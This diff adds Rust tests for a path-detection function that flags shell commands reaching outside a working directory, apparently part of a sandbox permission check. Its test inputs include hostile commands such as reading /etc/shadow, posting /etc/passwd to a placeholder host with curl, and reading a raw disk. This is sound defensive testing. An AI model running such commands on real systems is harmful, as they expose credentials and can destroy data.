@@ -1,0 +1,192 @@
+//! The paths outside that commands name.
+
+use super::*;
+
+fn dirs(text: &str) -> Vec<String> {
+    request(text).dirs
+}
+
+#[test]
+fn words_that_lead_outside_are_absolute_paths() {
+    for (text, expected) in [
+        ("rm -f ../outside/none.txt", "/home/dev/outside/none.txt"),
+        ("cat /home/dev/outside/secret.txt", "/home/dev/outside/secret.txt"),
+        ("ls /home/dev/outside/", "/home/dev/outside"),
+        ("cat ~/outside/secret.txt", "/home/dev/outside/secret.txt"),
+        ("ls ~", "/home/dev"),
+        ("ls ..", "/home/dev"),
+        ("cp hello.py /home/dev/outside/sub/h.py", "/home/dev/outside/sub/h.py"),
+        ("cat src/../../x", "/home/dev/x"),
+        ("cat '/etc'/pass\"wd\"", "/etc/passwd"),
+        ("ls /etc/*.conf", "/etc"),
+        ("ls /etc/a*/b", "/etc"),
+        ("ls /e*", "/"),
+        ("cat /etc/{passwd,group}", "/etc"),
+        ("grep --file=/etc/passwd x", "/etc/passwd"),
+        ("gcc -I/opt/include a.c", "/opt/include"),
+        ("gcc -I../include a.c", "/home/dev/include"),
+        ("dd if=/dev/sda", "/dev/sda"),
+        ("curl file:///etc/passwd", "/etc/passwd"),
+        ("curl -d @/etc/passwd http://x", "/etc/passwd"),
+        ("X=/etc/passwd; cat $X", "/etc/passwd"),
+        ("for f in /etc/*; do cat $f; done", "/etc"),
+        ("a $(cat /etc/passwd)", "/etc/passwd"),
+        ("/opt/tool/run a", "/opt/tool/run"),
+        ("cd", "/home/dev"),
+        ("cd ..", "/home/dev"),
+        ("cd /etc", "/etc"),
+        ("pushd /etc", "/etc"),
+        ("sudo cat /etc/shadow", "/etc/shadow"),
+        ("bash -c 'cat /etc/passwd'", "/etc/passwd"),
+        ("bash -c \"bash -c 'cat ../x'\"", "/home/dev/x"),
+        ("find . -exec cp {} /srv \\;", "/srv"),
+        ("git commit -F /etc/passwd", "/etc/passwd"),
+    ] {
+        assert!(dirs(text).contains(&expected.to_owned()), "{text}: {:?}", dirs(text));
+    }
+}
+
+#[test]
+fn redirect_targets_count_whatever_the_command_is() {
+    assert_eq!(dirs("echo hi > /home/dev/outside/r.txt"), ["/home/dev/outside/r.txt"]);
+    assert_eq!(dirs("> /etc/x"), ["/etc/x"]);
+    assert_eq!(dirs("{ echo a; } >> ../x"), ["/home/dev/x"]);
+    assert_eq!(dirs("while read l; do echo $l; done < /etc/passwd"), ["/etc/passwd"]);
+    assert_eq!(dirs("echo a > $X"), ["*"]);
+    assert_eq!(dirs("echo a > \"$X/b\""), ["*"]);
+    assert_eq!(dirs("echo $(</etc/passwd)"), ["/etc/passwd"]);
+    for text in [
+        "a > /dev/null 2>&1",
+        "a 2> /dev/stderr",
+        "a < /dev/fd/3",
+        "a >&2",
+        "a 2>&-",
+        "a > made.txt",
+        "a > >(tee b)",
+        "a <<< /etc/x",
+        "a << /x\n/x",
+        "a &> out",
+        "a <&$x",
+    ] {
+        let expected: &[&str] = if text.contains("$x") { &["*"] } else { &[] };
+        assert_eq!(dirs(text), expected, "{text}");
+    }
+}
+
+#[test]
+fn a_path_that_is_not_known_is_a_star() {
+    for text in [
+        "cat $HOME/x",
+        "cat \"$X/a\"",
+        "cat $(a)/b",
+        "cat $(echo /etc/passwd)",
+        "cat `echo /etc/passwd`",
+        "cat ~root/x",
+        "cat ~$X",
+        "cat ..$X",
+        "cat ${X:-/etc/passwd}",
+        "cat $X",
+        "rm -rf \"$X\"",
+        "cd $X",
+        "cd \"$(a)\"",
+        "cat $X; read X",
+        "X=$(a); cat $X",
+        "cat --file=$X/a",
+        "cat src/*/../../../x",
+        "cat src/.*/x",
+        "cat {/etc,a}/b",
+        "cat {,a}/etc/x",
+        "cat {..,a}/b",
+        "cat a/{.,b}./c",
+        "cat {,}~/x",
+        "ls $1",
+        "bash -c 'cat \"$X/y\"'",
+    ] {
+        assert!(dirs(text).contains(&"*".to_owned()), "{text}: {:?}", dirs(text));
+    }
+}
+
+#[test]
+fn what_stays_inside_asks_for_nothing() {
+    for text in [
+        "cat hello.py",
+        "cat src/a.py ./b",
+        "ls /home/dev/demo/src",
+        "cat ~/demo/x",
+        "ls src/..",
+        "cat a/b/../../c",
+        "echo /etc/passwd ../x ~",
+        "printf '%s' /etc",
+        "test -f /etc/passwd",
+        "[ -d ../x ]",
+        "[[ -f /etc/x ]]",
+        "git commit -m 'fix ../a and /b'",
+        "git commit -am \"see /x\"",
+        "git commit --message=/x",
+        "git commit -m \"$(cat <<'EOF'\na/b\nEOF\n)\"",
+        "gh pr create --title /x --body '../y'",
+        "for f in a b src/*; do cat $f; done",
+        "X=src/a; cat $X",
+        "kill -9 $$",
+        "sleep $((10 / 2))",
+        "head -n $((a/b)) x",
+        "diff <(ls src/a) <(ls b)",
+        "FILES=$(git diff origin/main)",
+        "cat src/{a,b}.ts src/*.js",
+        "cat {a,b}/c",
+        "/bin/rm -f x",
+        "/usr/bin/env ls",
+        "sed 's/a/b/' x",
+        "curl -s https://a/b?c=$X -o out || true; :",
+        "cd src && cat ../hello.py",
+        "cd src && cd a && cat ../../x && ls ../../src",
+        "bash -c 'ls src'",
+        "cat /dev/null",
+        "python3 $X",
+        "git log HEAD~1..",
+        "npm install @a/b",
+        "scp a:b/c .",
+        "xargs -I{} cp {} a/",
+    ] {
+        let expected: &[&str] = if text.contains("?c=$X") { &["*"] } else { &[] };
+        assert_eq!(dirs(text), expected, "{text}");
+    }
+}
+
+#[test]
+fn a_change_of_the_directory_counts_only_if_it_surely_happened() {
+    assert_eq!(dirs("cd src && cat ../hello.py"), [""; 0]);
+    // It goes on where it was if the directory is not there.
+    for text in [
+        "cd no; cat ../x",
+        "cd no || cat ../x",
+        "a || cd no && cat ../x",
+        "(cd no) && cat ../x",
+        "cd no & cat ../x",
+        "cd no | a && cat ../x",
+        "! cd no && cat ../x",
+    ] {
+        assert_eq!(dirs(text), ["/home/dev/x"], "{text}");
+    }
+    assert_eq!(dirs("cd .. && cat outside/x"), ["/home/dev", "/home/dev/outside/x"]);
+    assert_eq!(dirs("cd ../outside; cat a/b"), ["/home/dev/outside", "/home/dev/outside/a/b"]);
+}
+
+#[test]
+fn a_link_is_asked_about_even_without_a_slash() {
+    let is_inside = &mut |path: &str| path.starts_with(CWD) && !path.contains("/link");
+    let request = shell_request("cd link && ls", CWD, "/home/dev", is_inside);
+    assert_eq!(request.dirs, ["/home/dev/demo/link"]);
+}
+
+#[test]
+fn each_path_is_named_once_in_order() {
+    assert_eq!(dirs("cat /b /a /b; ls /a > /c"), ["/b", "/a", "/c"]);
+}
+
+#[test]
+fn a_windows_drive_is_a_root() {
+    let is_inside = &mut |path: &str| path.starts_with("C:/demo");
+    let request = shell_request("cat a/b D:/x ../y ../../..", "C:/demo", "C:/home", is_inside);
+    assert_eq!(request.dirs, ["D:/x", "C:/y", "C:"]);
+}
